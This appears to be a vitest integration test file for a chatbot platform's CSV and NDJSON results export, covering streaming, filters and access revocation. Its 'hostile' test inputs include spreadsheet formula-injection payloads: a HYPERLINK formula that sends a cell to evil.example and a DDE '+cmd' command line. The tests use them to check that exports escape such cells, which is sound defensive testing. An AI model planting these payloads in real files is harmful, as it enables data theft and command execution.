/** Exports of results: every cell comes back, to those who may read it, as slowly as they like. */
import { parse } from "csv-parse/sync"
import { afterAll, describe, expect, test } from "vitest"
import { openDatabase } from "../../src/db/connection/openDatabase.ts"
import { deleteCollaborator } from "../../src/db/people/collaborators.ts"
import { findUserByEmail } from "../../src/db/people/users.ts"
import { plainCell } from "../../src/engine/recorded/csv.ts"
import { newUuid } from "../../src/lib/ids.ts"
import type { Caller } from "../../src/people/caller.ts"
import { createAccount } from "../../src/people/createAccount.ts"
import { exportInputSchema, exportResults } from "../../src/routers/result/exportOperation.ts"
import { ask, bot, group, idOf, link, say } from "../support/bots.ts"
import { testDatabaseUrl } from "../support/database.ts"
import { contextBy, insertDraft, insertPerson, insertTeam } from "../support/people.ts"
import { chatOver, publishBot } from "../support/publish.ts"
import { testServer } from "../support/server.ts"
import { eventually } from "../support/waiting.ts"

const databaseUrl = await testDatabaseUrl()
const database = await openDatabase({ url: databaseUrl, poolSize: 1 })
afterAll(() => database.close())
const server = await testServer({ DATABASE_URL: databaseUrl })

const get = (botId: string, query = "", init: RequestInit = {}) =>
  fetch(`${server.address}/api/v1/bots/${botId}/results/export?${query}`, {
    headers: { authorization: `Bearer ${server.token}` },
    ...init,
  })

async function tableOf(botId: string, query = ""): Promise<string[][]> {
  const response = await get(botId, query)
  expect(response.status).toBe(200)
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8")
  // Reading it as text would drop the mark.
  const bytes = Buffer.from(await response.arrayBuffer())
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  return parse(bytes, { bom: true, recordDelimiter: "\r\n" })
}

async function listed(botId: string): Promise<Record<string, unknown>[]> {
  const path = `/api/v1/bots/${botId}/results?timeFilter=allTime&limit=500`
  return (await server.send("GET", path)).body.results as Record<string, unknown>[]
}

const facts = ["id", "created", "completed", "version"]
const laterFacts = ["ended", "seconds"]

/** The cells of a completed result, around those of its answers. */
const rowOf = (result: Record<string, unknown> = {}, version: string, cells: string[]) => [
  ...[result.id, result.createdAt, "yes", version],
  ...cells,
  ...[result.endedAt, String(result.durationSeconds)],
]

const hostile = [
  '=HYPERLINK("https://evil.example?"&A1)',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(A1)",
  'two "quotes", a comma',
  "line\nbreak\r\nand more",
  " spaces ",
  "שלום \u202e",
  "a;b\tc",
]

async function talk(publicId: string, ...replies: string[]): Promise<string> {
  const chat = await chatOver(server, publicId)
  for (const text of replies) expect((await chat.say(text)).status).toBe(200)
  return chat.step.resultId
}

describe("CSV", () => {
  test("has the columns of all versions, and every cell comes back", async () => {
    const title = '=1+1 "Group", with\nbreaks'
    const old = bot(
      { variables: { "@Name": null } },
      group(title, ask.text({ saves: "@Name", id: "name" }), ask.text({ id: "gone" })),
    )
    const { botId, publicId } = await publishBot(server, old)
    const texts = [...hostile]
    const ids: string[] = []
    for (const text of texts) ids.unshift(await talk(publicId, text, `${text}!`))
    const now = bot(group("Second", ask.text({ id: "name" }), say("Bye")))
    await server.send("PATCH", `/api/v1/bots/${botId}`, { body: { bot: now, overwrite: true } })
    await server.send("POST", `/api/v1/bots/${botId}/publish`)
    ids.unshift(await talk(publicId, "new"))

    const [header, ...rows] = await tableOf(botId)
    expect(header).toEqual([...facts, "Second", `'${title}`, "'@Name", ...laterFacts])
    const { body } = await server.send("GET", `/api/v1/bots/${botId}/results/columns`)
    expect(body.columns).toEqual([
      ...facts.map((name) => expect.objectContaining({ title: name, kind: "fact" })),
      { id: "name", title: "Second", kind: "input" },
      expect.objectContaining({ id: "gone", title, kind: "input" }),
      expect.objectContaining({ title: "@Name", kind: "variable" }),
      ...laterFacts.map((name) => expect.objectContaining({ title: name, kind: "fact" })),
    ])
    const results = await listed(botId)
    expect(results.map(({ id }) => id)).toEqual(ids)
    const [newest, ...older] = results
    expect(rows[0]).toEqual(rowOf(newest, "2", ["new", "", ""]))
    for (const [index, row] of rows.slice(1).entries()) {
      const text = texts.toReversed()[index] ?? ""
      const cells = [text, `${text}!`, text].map(plainCell)
      expect(row).toEqual(rowOf(older[index], "1", cells))
    }
  })

  test("has several answers, and those to linked bots", async () => {
    const linked = await publishBot(
      server,
      bot(group("Inside", ask.text({ saves: "Inner", id: "inner" }))),
    )
    const choice = ask.choice([
      { content: "Again", to: "Loop" },
      { content: "Go", to: "End" },
    ])
    const flow = bot(
      group("Loop", ask.text({ id: "again" }), choice),
      group("End", link(linked.botId, { mergeResults: true })),
    )
    const { botId, publicId } = await publishBot(server, flow)
    await talk(publicId, "one", "Again", "two", "Go", "deep")
    const [header = [], row = []] = await tableOf(botId)
    const cellOf = (title: string) => row[header.indexOf(title)]
    expect(cellOf("Loop")).toBe("one, two")
    expect(cellOf("Loop (2)")).toBe("Again, Go")
    expect(cellOf("Inside: Inner")).toBe("deep")
    expect(cellOf("Inner")).toBe("deep")
  })

  test("is ordered and cut as the bot prefers, and takes the filters of the list", async () => {
    const flow = bot(group("A", ask.text({ saves: "Name", id: "name" }), ask.text({ id: "more" })))
    const { botId, publicId } = await publishBot(server, flow)
    const [partial] = [await talk(publicId, "Ann"), await talk(publicId, "Bob", "x")]
    const resultsTablePreferences = {
      columnsOrder: ["gone", "more", idOf("Name")],
      columnsVisibility: {
        gone: true,
        lost: false,
        createdAt: false,
        name: false,
        isCompleted: false,
        endedAt: false,
        durationSeconds: false,
      },
      columnsWidth: {},
    }
    const path = `/api/v1/bots/${botId}`
    await server.send("PATCH", path, {
      body: { bot: { resultsTablePreferences }, overwrite: true },
    })
    expect(await tableOf(botId, "status=partial&version=1&search=ANN&timeFilter=today")).toEqual([
      ["A", "Name", "id", "version"],
      ["", "Ann", partial, "1"],
    ])
  })

  test("of a bot without results is a header", async () => {
    const { botId } = await publishBot(server, bot(group("A", ask.text())))
    expect(await tableOf(botId)).toEqual([[...facts, ...laterFacts]])
  })
})

test("NDJSON has every result as the list gives it, over many pages", async () => {
  const { botId, publicId } = await publishBot(server, bot(group("A", ask.text({ saves: "Name" }))))
  for (const text of hostile) await talk(publicId, text)
  await insertResults(botId, { count: 450, characters: 10 })
  const response = await get(botId, "format=ndjson&timeFilter=allTime")
  expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8")
  // A proxy may take it faster than a slow reader, who would lose it otherwise.
  expect(response.headers.has("x-accel-buffering")).toBe(false)
  const lines = (await response.text()).trimEnd().split("\n")
  expect(lines.map((line) => JSON.parse(line))).toEqual(await listed(botId))
})

test("wrong requests are refused before the file begins", async () => {
  const { botId } = await publishBot(server, bot(group("A", ask.text())))
  for (const query of ["format=xlsx", "version=0", "search=", "timeZone=Mars", "status=x"]) {
    const response = await get(botId, query)
    expect(response.status).toBe(400)
    expect(await response.json()).toMatchObject({ code: "BAD_REQUEST", issues: [{}] })
  }
  expect((await get(botId, "version=7")).status).toBe(404)
  expect((await get("%ff")).status).toBe(400)
  expect((await get(botId, "", { method: "POST" })).status).toBe(405)
  const anonymous = await get(botId, "", { headers: {} })
  expect(anonymous.status).toBe(401)
})

/** Results of a bot with one answer each, as years of chats leave them behind. */
async function insertResults(
  botId: string,
  { count, characters }: { count: number; characters: number },
): Promise<void> {
  await database.pool.query(
    `insert into results (result_id, bot_id, version_id, has_started)
    select (lpad(to_hex(1000 + i), 12, '0') || '7' || substr(replace($2, '-', ''), 14))::uuid, $1, $2::uuid, true
    from generate_series(1, $3::int) i`,
    [botId, newUuid(), count],
  )
  await database.pool.query(
    `insert into answers (result_id, idx, block_id, content)
    select result_id, 0, 'block', repeat('x', $2) from results
    where bot_id = $1 and result_id < '01000000-0000-7000-8000-000000000000'`,
    [botId, characters],
  )
}

async function draftOfOwner(): Promise<{ botId: string; owner: Caller }> {
  const owner = await insertPerson(database)
  const workspaceId = await insertTeam(database, [[owner, "ADMIN"]])
  return { botId: await insertDraft(database, { workspaceId }), owner }
}

/** Reads an export as it is written; `rounds` counts what the event loop did for others meanwhile. */
async function piecesOf(user: Caller, asked: { botId: string; format: "csv" | "ndjson" }) {
  const request = exportInputSchema.parse({ ...asked, timeFilter: "allTime" })
  const pieces: string[] = []
  let rounds = 0
  let roundsAtFirst = 0
  const count = () => {
    rounds += 1
    counting = setImmediate(count)
  }
  let counting = setImmediate(count)
  for await (const piece of await exportResults({ ...contextBy(database, user), user }, request)) {
    if (pieces.length === 0) roundsAtFirst = rounds
    pieces.push(piece)
  }
  clearImmediate(counting)
  return { pieces, rounds: rounds - roundsAtFirst, longest: longestOf(pieces) }
}

const longestOf = (pieces: readonly string[]) => Math.max(...pieces.map(({ length }) => length))

test("large results are printed a few at a time, from the first page on", async () => {
  const { botId, owner } = await draftOfOwner()
  await insertResults(botId, { count: 30, characters: 100_000 })
  const { pieces, longest } = await piecesOf(owner, { botId, format: "ndjson" })
  expect(longest).toBeLessThan(200_001)
  const lines = pieces.join("").trimEnd().split("\n")
  expect(lines.map((line) => JSON.parse(line).answers[0].content.length)).toEqual(
    Array.from({ length: 30 }, () => 100_000),
  )
})

test("no further page is read once the reader has left", async () => {
  const { botId, owner } = await draftOfOwner()
  await insertResults(botId, { count: 100, characters: 10 })
  const request = exportInputSchema.parse({ botId, format: "ndjson", timeFilter: "allTime" })
  let isGone = false
  const context = { ...contextBy(database, owner), user: owner, hasLeft: () => isGone }
  const pieces = await exportResults(context, request)
  expect((await pieces.next()).value).toContain('"answers"')
  isGone = true
  await expect(pieces.next()).rejects.toThrow("The caller left before its answer")
})

test("a single result of megabytes comes in slices, between which others get on", async () => {
  const owner = await insertPerson(database)
  const workspaceId = await insertTeam(database, [[owner, "ADMIN"]])
  const flow = bot(group("Loop", ask.text({ id: "said", to: "Loop" })))
  const { botId, publicId } = await publishBot(server, flow)
  await database.pool.query("update bots set workspace_id = $1 where id = $2", [workspaceId, botId])
  await talk(publicId, "0")
  await database.pool.query(
    `insert into answers (result_id, idx, block_id, content)
    select result_id, n, 'said', n || repeat('x"', 5000) from results, generate_series(1, 400) n
    where bot_id = $1`,
    [botId],
  )
  const contents = Array.from({ length: 401 }, (_, n) => (n === 0 ? "0" : n + 'x"'.repeat(5000)))
  for (const format of ["ndjson", "csv"] as const) {
    const { pieces, rounds, longest } = await piecesOf(owner, { botId, format })
    expect(longest).toBeLessThan(200_001)
    expect(pieces.length).toBeGreaterThan(30)
    expect(rounds).toBeGreaterThanOrEqual(pieces.length - 3)
    const text = pieces.join("")
    if (format === "csv") {
      const [header = [], row = []] = parse(text, { bom: true }) as string[][]
      expect(row[header.indexOf("Loop")]).toBe(contents.join(", "))
    } else {
      const { answers } = JSON.parse(text) as { answers: { content: string }[] }
      expect(answers.map(({ content }) => content)).toEqual(contents)
    }
  }
})

test("clients may read slowly, a few of them at a time, and leave when they like", async () => {
  const { botId } = await publishBot(server, bot(group("A", ask.text())))
  // More than the buffers of a connection take.
  await insertResults(botId, { count: 2_000, characters: 10_000 })
  const all = "format=ndjson&timeFilter=allTime"
  const leaving = new AbortController()
  const readers = []
  for (let count = 0; count < 4; count++) {
    const response = await get(botId, all, { signal: leaving.signal })
    const reader = response.body?.getReader()
    await reader?.read()
    readers.push(reader)
  }
  const refused = await get(botId, all)
  expect(refused.status).toBe(503)
  expect(refused.headers.get("retry-after")).toBe("10")
  leaving.abort()
  await eventually(async () => {
    const response = await get(botId, all)
    expect(response.status).toBe(200)
    expect((await response.text()).trimEnd().split("\n")).toHaveLength(2_000)
  })
  // Who loses the bot meanwhile gets no more than was under way.
  const email = "bob@example.com"
  const { token } = await createAccount(database, { email })
  const address = { botId, userId: (await findUserByEmail(database, email))?.id ?? "" }
  const collaboration = { ...address, type: "READ" as const }
  await database.kysely.insertInto("botCollaborators").values(collaboration).execute()
  const response = await get(botId, all, { headers: { authorization: `Bearer ${token}` } })
  const reader = response.body?.getReader()
  await reader?.read()
  await deleteCollaborator(database, address)
  const readOn = async () => {
    while (reader && !(await reader.read()).done);
  }
  await expect(readOn()).rejects.toThrow("terminated")
})
